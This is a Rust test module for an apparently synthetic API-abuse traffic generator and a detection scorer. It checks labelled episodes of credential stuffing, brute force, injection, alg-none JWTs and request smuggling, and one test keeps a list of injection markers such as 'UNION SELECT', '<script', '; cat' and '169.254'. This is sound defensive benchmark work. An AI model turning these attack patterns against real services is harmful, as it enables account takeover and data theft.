        let mut conns: BTreeMap<(SocketAddr, SocketAddr), (Vec<u8>, Vec<u8>)> = BTreeMap::new();
        let (mut frames, mut last) = (0usize, 0u64);
        while let Some(p) = reader.next_packet().unwrap() {
            frames += 1;
            assert!(p.ts.as_nanos() >= last, "time order");
            last = p.ts.as_nanos();
            let s = SlicedPacket::from_ethernet(p.data).expect("Ethernet");
            let Some(NetSlice::Ipv4(ip)) = &s.net else {
                panic!("IPv4")
            };
            let Some(TransportSlice::Tcp(tcp)) = &s.transport else {
                panic!("TCP")
            };
            let src = SocketAddr::new(ip.header().source_addr().into(), tcp.source_port());
            let dst = SocketAddr::new(
                ip.header().destination_addr().into(),
                tcp.destination_port(),
            );
            let (key, up) = if dst == API_SERVER {
                ((src, dst), true)
            } else {
                ((dst, src), false)
            };
            let e = conns.entry(key).or_default();
            if up { &mut e.0 } else { &mut e.1 }.extend_from_slice(tcp.payload());
        }
        let _ = std::fs::remove_file(&path);
        assert_eq!(frames, t.frames.len());
        let mut requests = 0u64;
        for ((client, _), (up, down)) in &conns {
            let (reqs, resps) = (parse_stream(up), parse_stream(down));
            assert_eq!(reqs.len(), resps.len(), "{client}");
            requests += reqs.len() as u64;
        }
        assert_eq!(requests, l.transactions);
        assert_eq!(sent.len() as u64, l.transactions);
        assert_eq!(
            l.benign_transactions + l.episodes.iter().map(|e| e.transactions).sum::<u64>(),
            l.transactions
        );
        for e in &l.episodes {
            let n = sent
                .iter()
                .filter(|s| s.episode.as_deref() == Some(&e.id))
                .count();
            assert_eq!(n as u64, e.transactions, "{}", e.id);
            assert!(e.transactions > 0 && e.start_ns < e.end_ns, "{e:?}");
            assert!(
                e.start_ns >= l.learning_end_ns && e.end_ns <= l.end_ns,
                "{e:?}"
            );
            assert!(!e.clients.is_empty() && !e.routes.is_empty(), "{e:?}");
            let ips: BTreeSet<IpAddr> = sent
                .iter()
                .filter(|s| s.episode.as_deref() == Some(&e.id))
                .map(|s| s.client.ip())
                .collect();
            assert_eq!(ips.into_iter().collect::<Vec<_>>(), e.clients, "{}", e.id);
        }
        assert!(l.benign_transactions > 500, "{}", l.benign_transactions);
    }

    #[test]
    fn every_kind_has_its_shape() {
        let (t, sent) = small_run();
        let l = &t.labels;
        let kinds: BTreeSet<Kind> = l.episodes.iter().map(|e| e.kind).collect();
        assert_eq!(kinds.len(), Kind::ALL.len());
        let ids: BTreeSet<&str> = l.episodes.iter().map(|e| e.id.as_str()).collect();
        assert_eq!(ids.len(), l.episodes.len(), "unique ids");

        // Credential stuffing: one IP, distinct user names, mostly 401, fast.
        let e = episode(l, "credential_stuffing-1");
        let p = parsed(sent, Some(&e.id));
        assert_eq!(e.clients.len(), 1);
        let names: BTreeSet<String> = p
            .iter()
            .map(|x| x.req.json()["username"].as_str().unwrap().to_string())
            .collect();
        assert_eq!(names.len(), p.len());
        assert!(p.len() >= 200);
        assert!(p.iter().filter(|x| x.resp.status() == 401).count() * 10 >= p.len() * 9);
        assert!((e.end_ns - e.start_ns) < 3 * MINUTE);

        // Brute force: one user name, many passwords, all refused.
        let e = episode(l, "brute_force-1");
        let p = parsed(sent, Some(&e.id));
        let names: BTreeSet<&str> = p
            .iter()
            .map(|x| {
                x.req.json()["username"]
                    .as_str()
                    .unwrap()
                    .to_string()
                    .leak() as &str
            })
            .collect();
        assert_eq!(names.len(), 1);
        assert_eq!(names.iter().next().copied(), e.identity_secret.as_deref());
        let passwords: BTreeSet<String> = p
            .iter()
            .map(|x| x.req.json()["password"].to_string())
            .collect();
        assert!(passwords.len() >= 100);
        assert!(p.iter().all(|x| x.resp.status() == 401));

        // Distributed: many networks, few attempts each, distinct names, 10–20 min.
        let e = episode(l, "distributed_stuffing-1");
        let p = parsed(sent, Some(&e.id));
        let nets: BTreeSet<[u8; 3]> = e
            .clients
            .iter()
            .map(|ip| match ip {
                IpAddr::V4(v) => [v.octets()[0], v.octets()[1], v.octets()[2]],
                IpAddr::V6(_) => panic!("v4"),
            })
            .collect();
        assert!(e.clients.len() >= 40 && nets.len() == e.clients.len());
        let mut per_ip: BTreeMap<IpAddr, usize> = BTreeMap::new();
        for x in &p {
            *per_ip.entry(x.sent.client.ip()).or_default() += 1;
        }
        assert!(per_ip.values().all(|&n| n <= 4));
        let names: BTreeSet<String> = p
            .iter()
            .map(|x| x.req.json()["username"].to_string())
            .collect();
        assert_eq!(names.len(), p.len());
        let span = e.end_ns - e.start_ns;
        assert!((8 * MINUTE..=20 * MINUTE).contains(&span), "{span}");

        // Sharing: one token, many networks and agents, within minutes.
        let e = episode(l, "credential_sharing-1");
        let p = parsed(sent, Some(&e.id));
        let secret = e.identity_secret.as_deref().unwrap();
        assert!(p
            .iter()
            .all(|x| x.req.header("Authorization") == Some(&format!("Bearer {secret}"))));
        let uas: BTreeSet<&str> = p
            .iter()
            .map(|x| x.req.header("User-Agent").unwrap())
            .collect();
        assert!(e.clients.len() >= 10 && uas.len() >= 5);
        assert!(e.end_ns - e.start_ns <= 10 * MINUTE);
        // The token is the owner's: its own address is a known client.
        let bg = parsed(sent, None);
        assert!(bg.iter().any(|x| e.clients.contains(&x.sent.client.ip())));

        // Enumeration: sequential ids, mostly 403/404, some 200.
        let e = episode(l, "enumeration-1");
        let p = parsed(sent, Some(&e.id));
        let ids: Vec<u64> = p
            .iter()
            .filter(|x| x.req.method() == "GET")
            .map(|x| x.req.path().rsplit('/').next().unwrap().parse().unwrap())
            .collect();
        assert!(ids.len() >= 200 && ids.windows(2).all(|w| w[1] == w[0] + 1));
        let statuses: Vec<u16> = p
            .iter()
            .filter(|x| x.req.method() == "GET")
            .map(|x| x.resp.status())
            .collect();
        let denied = statuses.iter().filter(|&&s| s == 403 || s == 404).count();
        assert!(
            denied * 2 > statuses.len()
                && statuses.contains(&200)
                && statuses.contains(&403)
                && statuses.contains(&404)
        );

        // Scraping: a tool, most of the catalogue, fast.
        let e = episode(l, "scraping-1");
        let p = parsed(sent, Some(&e.id));
        assert!(p
            .iter()
            .all(|x| TOOL_UAS.contains(&x.req.header("User-Agent").unwrap())));
        let skus: BTreeSet<&str> = p
            .iter()
            .map(|x| x.req.path())
            .filter(|p| p.contains("SKU-"))
            .collect();
        assert!(skus.len() >= 900);
        assert!(e.end_ns - e.start_ns < 10 * MINUTE);

        // Injection: one episode per subkind, every request carries a payload of it.
        let subs: BTreeSet<&str> = l
            .episodes
            .iter()
            .filter(|e| e.kind == Kind::Injection)
            .map(|e| e.subkind.as_deref().unwrap())
            .collect();
        assert_eq!(
            subs,
            BTreeSet::from([
                "command_injection",
                "path_traversal",
                "sql_injection",
                "ssrf",
                "xss"
            ])
        );
        for e in l.episodes.iter().filter(|e| e.kind == Kind::Injection) {
            let list = match e.subkind.as_deref().unwrap() {
                "sql_injection" => SQLI,
                "xss" => XSS,
                "path_traversal" => TRAVERSAL,
                "command_injection" => CMD,
                _ => SSRF,
            };
            for x in parsed(sent, Some(&e.id)) {
                let text = x.req.text().replace("\\\"", "\"").replace("\\\\", "\\");
                assert!(list.iter().any(|pl| text.contains(pl)), "{}: {text}", e.id);
            }
        }

        // Rate spike: a known, slow partner at over 20 times its own pace.
        let e = episode(l, "rate_spike-1");
        let p = parsed(sent, Some(&e.id));
        let ip = e.clients[0];
        let own: Vec<&Sent> = sent
            .iter()
            .filter(|s| s.episode.is_none() && s.client.ip() == ip)
            .collect();
        assert!(own.len() >= 5, "a known client");
        let usual = own.len() as f64 / ((l.end_ns - l.start_ns) as f64 / MINUTE as f64);
        let spike = p.len() as f64 / ((e.end_ns - e.start_ns) as f64 / MINUTE as f64);
        assert!(
            spike >= 20.0 * usual && spike <= 60.0 * usual,
            "{spike} vs {usual}"
        );
        let own_paths: BTreeSet<&str> = own
            .iter()
            .map(|s| parse_one(&s.request).path().to_string().leak() as &str)
            .collect();
        assert!(p
            .iter()
            .all(|x| own_paths.contains(x.req.path()) || x.req.path() == "/api/v1/products"));

        // Data exposure: card numbers (Luhn) and SSNs where there were none; bulk pages.
        let e = episode(l, "data_exposure-new_sensitive_class-1");
        let p = parsed(sent, Some(&e.id));
        let cards: Vec<String> = p
            .iter()
            .flat_map(|x| {
                let v = x.resp.json();
                let mut out = Vec::new();
                collect(&v, "card_number", &mut out);
                out
            })
            .collect();
        assert!(cards.len() >= 5 && cards.iter().all(|c| luhn_valid(c)));
        assert!(p.iter().any(|x| x.resp.json()["ssn"].is_string()));
        for x in &bg {
            let body = String::from_utf8_lossy(&x.resp.body);
            assert!(!body.contains("card_number") && !body.contains("\"ssn\""));
        }
        let e = episode(l, "data_exposure-bulk-1");
        let p = parsed(sent, Some(&e.id));
        assert!(p
            .iter()
            .all(|x| x.resp.json()["customers"].as_array().unwrap().len() == 1000));
        let bg_max = bg
            .iter()
            .filter_map(|x| x.resp.json()["customers"].as_array().map(Vec::len))
            .max()
            .unwrap_or(0);
        assert!(bg_max <= 20, "{bg_max}");

        // Broken auth: no credentials, alg none, expired token, each answered 200.
        for (sub, check) in [("missing_auth", 0), ("alg_none", 1), ("expired_jwt", 2)] {
            let e = episode(l, &format!("broken_auth-{sub}-1"));
            for x in parsed(sent, Some(&e.id)) {
                assert_eq!(x.resp.status(), 200);
                match check {
                    0 => assert!(x.req.header("Authorization").is_none()),
                    1 => assert_eq!(x.req.jwt().unwrap().0["alg"], "none"),
                    _ => assert!(x.req.jwt().unwrap().1["exp"].as_u64().unwrap() < x.sent.at / NS),
                }
            }
        }
        // The endpoint always had credentials in the background, and tokens were valid.
        for x in bg
            .iter()
            .filter(|x| x.req.path().starts_with("/api/v1/users/"))
        {
            let (h, c) = x.req.jwt().unwrap();
            assert_eq!(h["alg"], "HS256");
            assert!(c["exp"].as_u64().unwrap() > x.sent.at / NS);
        }

        // Shadow endpoint: called, answered, absent from the spec.
        let e = episode(l, "shadow_endpoint-1");
        let p = parsed(sent, Some(&e.id));
        assert!(p
            .iter()
            .all(|x| x.req.path() == "/api/v1/internal/export" && x.resp.status() == 200));
        assert!(!t.spec_yaml.contains("/internal/"));

        // Off hours: at 03:00 by a support identity that never works at night.
        let e = episode(l, "off_hours-1");
        assert_eq!(e.start_ns / HOUR % 24, 3);
        let ip = e.clients[0];
        assert!(bg.iter().any(|x| x.sent.client.ip() == ip));
        assert!(bg.iter().filter(|x| x.sent.client.ip() == ip).all(|x| {
            let h = x.sent.at / HOUR % 24;
            (6..22).contains(&h)
        }));
        assert!(parsed(sent, Some(&e.id)).len() >= 100);

        // Protocol evasion: both framings; two different lengths.
        for x in parsed(sent, Some("protocol_evasion-te_cl-1")) {
            assert!(x.req.header("Content-Length").is_some());
            assert_eq!(x.req.header("Transfer-Encoding"), Some("chunked"));
        }
        for x in parsed(sent, Some("protocol_evasion-conflicting_content_length-1")) {
            let cl = x.req.all("Content-Length");
            assert!(cl.len() == 2 && cl[0] != cl[1]);
        }
    }

    fn collect(v: &Value, key: &str, out: &mut Vec<String>) {
        match v {
            Value::Object(m) => {
                for (k, x) in m {
                    if k == key {
                        if let Some(s) = x.as_str() {
                            out.push(s.to_string());
                        }
                    }
                    collect(x, key, out);
                }
            }
            Value::Array(a) => a.iter().for_each(|x| collect(x, key, out)),
            _ => {}
        }
    }

    /// The spec documents every route the background calls.
    #[test]
    fn spec_documents_the_background() {
        let (t, sent) = small_run();
        for x in parsed(sent, None) {
            let segs: Vec<&str> = x.req.path().split('/').collect();
            let templ = if segs.len() >= 5 && segs[3] == "users" {
                let mut s = segs.clone();
                s[4] = "{userId}";
                s.join("/")
            } else if segs.len() == 5 && segs[3] == "products" {
                "/api/v1/products/{sku}".to_string()
            } else {
                x.req.path().to_string()
            };
            assert!(t.spec_yaml.contains(&format!("\n  {templ}:\n")), "{templ}");
        }
    }

    #[test]
    fn rounds_repeat_every_episode() {
        let s = AbuseScenario {
            rounds: 2,
            transactions_per_day: 1000,
            ..AbuseScenario::small(5)
        };
        let t = generate(&s);
        let l = &t.labels;
        assert_eq!(l.episodes.len(), 2 * episode_plan().len());
        let ids: BTreeSet<&str> = l.episodes.iter().map(|e| e.id.as_str()).collect();
        assert_eq!(ids.len(), l.episodes.len());
        for k in Kind::ALL {
            let n = l.episodes.iter().filter(|e| e.kind == *k).count();
            let per_round = episode_plan().iter().filter(|(x, _)| x == k).count();
            assert_eq!(n, 2 * per_round, "{k:?}");
        }
        assert!(ids.contains("off_hours-2") && ids.contains("injection-xss-2"));
    }

    #[test]
    fn benign_only_is_the_same_background_without_attacks() {
        let (with, _) = small_run();
        let (t, sent) = build(&AbuseScenario::small(3).benign_only(), true);
        assert!(t.labels.episodes.is_empty());
        assert_eq!(
            t.labels.benign_transactions,
            with.labels.benign_transactions
        );
        assert_eq!(t.labels.transactions, t.labels.benign_transactions);
        let markers = [
            "' OR",
            "UNION SELECT",
            "<script",
            "onerror",
            "../",
            "..\\",
            "/etc/",
            "169.254",
            "127.0.0.1",
            "localhost",
            "$(",
            "`",
            "; cat",
            "/internal/",
        ];
        for x in parsed(&sent, None) {
            let text = x.req.text();
            for m in markers {
                assert!(!text.contains(m), "{m} in {text}");
            }
            if let Some((h, _)) = x.req.jwt() {
                assert_eq!(h["alg"], "HS256");
            }
            assert!(x.req.all("Content-Length").len() <= 1);
            assert!(x.req.header("Transfer-Encoding").is_none());
            assert!(!TOOL_UAS.contains(&x.req.header("User-Agent").unwrap()));
        }
    }

    /// A day of background: most traffic in business hours, each identity on at most two
    /// addresses.
    #[test]
    fn background_is_diurnal_and_identities_stay_home() {
        let s = AbuseScenario {
            hours: 24,
            transactions_per_day: 5000,
            identities: 20,
            anonymous_clients: 5,
            ..AbuseScenario::small(9).benign_only()
        };
        let (t, sent) = build(&s, true);
        let n = t.labels.transactions as f64;
        assert!((3000.0..7500.0).contains(&n), "{n}");
        let hour = |x: &Sent| x.at / HOUR % 24;
        let day = sent.iter().filter(|x| (9..17).contains(&hour(x))).count();
        let night = sent.iter().filter(|x| hour(x) < 5).count();
        assert!(day > 4 * night, "{day} vs {night}");
        let mut ips: BTreeMap<String, BTreeSet<IpAddr>> = BTreeMap::new();
        for x in parsed(&sent, None) {
            let cred = x
                .req
                .header("Authorization")
                .or(x.req.header("X-API-Key"))
                .map(str::to_string)
                .or_else(|| x.req.json()["username"].as_str().map(str::to_string));
            if let Some(c) = cred {
                ips.entry(c).or_default().insert(x.sent.client.ip());
            }
        }
        assert!(ips.len() >= 20);
        assert!(ips.values().all(|s| s.len() <= 2));
    }

    // ---- The scorer

    fn labels() -> Labels {
        let ep = |id: &str, kind, start: u64, clients: Vec<&str>, routes: Vec<&str>| Episode {
            id: id.into(),
            kind,
            subkind: None,
            start_ns: start * NS,
            end_ns: (start + 60) * NS,
            clients: clients.iter().map(|c| c.parse().unwrap()).collect(),
            identity_secret: None,
            transactions: 100,
            routes: routes.iter().map(|r| r.to_string()).collect(),
        };
        Labels {
            seed: 1,
            start_ns: 0,
            end_ns: 100_000 * NS,
            learning_end_ns: 0,
            transactions: 20_000,
            benign_transactions: 19_700,
            episodes: vec![
                ep(
                    "stuff",
                    Kind::CredentialStuffing,
                    10_000,
                    vec!["198.18.0.5"],
                    vec!["POST /api/v1/login"],
                ),
                ep(
                    "brute",
                    Kind::BruteForce,
                    20_000,
                    vec!["198.18.1.5"],
                    vec!["POST /api/v1/login"],
                ),
                ep(
                    "shadow",
                    Kind::ShadowEndpoint,
                    30_000,
                    vec!["10.30.5.9"],
                    vec!["GET /api/v1/internal/export"],
                ),
            ],
        }
    }

    fn alert(key: &str, detector: &str, secs: u64, ip: Option<&str>, route: Option<&str>) -> Value {
        let mut a = json!({
            "alert_id": format!("{key}-{secs}"), "dedup_key": key, "lifecycle": "create", "count": 1,
            "time": iso_time(secs) .replace('Z', ".000000Z"), "first_seen": iso_time(secs), "last_seen": iso_time(secs),
            "detector": {"id": detector, "name": detector, "kind": "rule", "version": 1},
            "severity": {"level": "high", "score": 80}, "confidence": 0.9,
            "title": format!("title of {key}"), "summary": "", "client": {}, "server": {}, "http": {},
            "evidence": []
        });
        if let Some(ip) = ip {
            a["client"]["ip"] = json!(ip);
        }
        if let Some(r) = route {
            a["http"]["route"] = json!(r);
        }
        a
    }

    #[test]
    fn rfc3339_times_parse() {
        assert_eq!(parse_rfc3339("1970-01-01T00:00:00Z"), Some(0));
        assert_eq!(parse_rfc3339("2026-09-21T00:00:00Z"), Some(START_SECS * NS));
        assert_eq!(
            parse_rfc3339("2026-09-21T02:00:01.5+02:00"),
            Some(START_SECS * NS + 1_500_000_000)
        );
        assert_eq!(
            parse_rfc3339(&iso_time(START_SECS + 12_345)),
            Some((START_SECS + 12_345) * NS)
        );
        assert_eq!(parse_rfc3339("yesterday"), None);
        assert_eq!(parse_rfc3339("2026-13-01T00:00:00Z"), None);
    }

    #[test]
    fn scorer_matches_by_kind_time_client_and_counts_keys() {
        let l = labels();
        let alerts = vec![
            // Stuffing found 5 s in, with an update under the same key (one alert).
            alert(
                "a",
                "detect.credential_stuffing",
                10_005,
                Some("198.18.0.5"),
                None,
            ),
            alert(
                "a",
                "detect.credential_stuffing",
                10_030,
                Some("198.18.0.5"),
                None,
            ),
            // Brute force: the same detector, found 20 s in, then 9 min after the end (in).
            alert(
                "b",
                "detect.credential_stuffing",
                20_020,
                Some("198.18.1.5"),
                None,
            ),
            // The right client but the wrong detector: false.
            alert("c", "detect.scraping", 10_010, Some("198.18.0.5"), None),
            // Past end + 10 min: false.
            alert(
                "d",
                "detect.credential_stuffing",
                20_060 + 601,
                Some("198.18.1.5"),
                None,
            ),
            // Before the start: false.
            alert(
                "e",
                "detect.credential_stuffing",
                9_999,
                Some("198.18.0.5"),
                None,
            ),
            // Another client: false.
            alert(
                "f",
                "detect.credential_stuffing",
                10_010,
                Some("203.0.113.7"),
                None,
            ),
            // Shadow endpoint, endpoint-scoped (no client): matches on time and route.
            alert(
                "g",
                "inventory.shadow_endpoint",
                30_040,
                None,
                Some("GET /api/v1/internal/export"),
            ),
            // Endpoint-scoped on another route: false.
            alert(
                "h",
                "inventory.shadow_endpoint",
                30_040,
                None,
                Some("GET /api/v1/admin/{id}"),
            ),
            // The anomaly model on an episode: not false, not a detection either.
            alert("i", "detect.anomaly_model", 30_001, Some("10.30.5.9"), None),
            // The anomaly model on nothing: false.
            alert("j", "detect.anomaly_model", 50_000, Some("10.30.5.9"), None),
            json!({"not": "an alert"}),
        ];
        let s = score(&l, &alerts);
        assert_eq!(s.alerts, 10);
        assert_eq!(s.revisions, 11);
        assert_eq!(s.unreadable, 1);
        let false_keys: Vec<&str> = s
            .false_alerts
            .iter()
            .map(|f| f.dedup_key.as_str())
            .collect();
        assert_eq!(false_keys, ["e", "c", "f", "d", "h", "j"]);
        assert_eq!(s.false_alerts[1].detector, "detect.scraping");
        assert_eq!(s.false_alerts[1].title, "title of c");
        assert!((s.false_alerts_per_10k - 3.0).abs() < 1e-9);
        let k = |kind| s.kinds.iter().find(|k| k.kind == kind).unwrap().clone();
        let stuff = k(Kind::CredentialStuffing);
        assert_eq!((stuff.episodes, stuff.detected, stuff.alerts), (1, 1, 1));
        assert_eq!(stuff.ttd_median_s, Some(5.0));
        let brute = k(Kind::BruteForce);
        assert_eq!((brute.detected, brute.ttd_max_s), (1, Some(20.0)));
        let shadow = k(Kind::ShadowEndpoint);
        assert_eq!((shadow.detected, shadow.alerts), (1, 2));
        assert_eq!(shadow.ttd_median_s, Some(40.0));
        let ep = s.episodes.iter().find(|e| e.id == "shadow").unwrap();
        assert_eq!(
            ep.detectors,
            ["detect.anomaly_model", "inventory.shadow_endpoint"]
        );
        assert!(s.all_kinds_detected());
        assert_eq!((s.detected, s.episode_count), (3, 3));
        assert_eq!(s.ttd_median_s, Some(20.0));
        assert!(s.table().contains("credential_stuffing"));

        // Only the model saw the shadow call: not detected, and not false.
        let s = score(&l, &alerts[9..10]);
        assert!(!s.all_kinds_detected());
        assert!(s.false_alerts.is_empty());
        assert_eq!(k2(&s, Kind::ShadowEndpoint).detected, 0);

        // No alerts at all.
        let s = score(&l, &[]);
        assert_eq!(s.kinds.len(), 3);
        assert!(s
            .kinds
            .iter()
            .all(|k| k.recall == 0.0 && k.ttd_median_s.is_none()));
    }

    fn k2(s: &Score, kind: Kind) -> KindScore {
        s.kinds.iter().find(|k| k.kind == kind).unwrap().clone()
    }

    #[test]
    fn routes_compare_by_shape() {
        let r = vec!["GET /api/v1/users/{id}".to_string()];
        assert!(route_matches("GET /api/v1/users/{userId}", &r));
        assert!(route_matches("/api/v1/users/{n}", &r));
        assert!(route_matches("api.shop.test/api/v1/users/{id}?x=1", &r));
        assert!(!route_matches("POST /api/v1/users/{id}", &r));
        assert!(!route_matches("GET /api/v1/users/{id}/orders", &r));
        assert!(route_matches("GET /anything", &[]));
    }
}
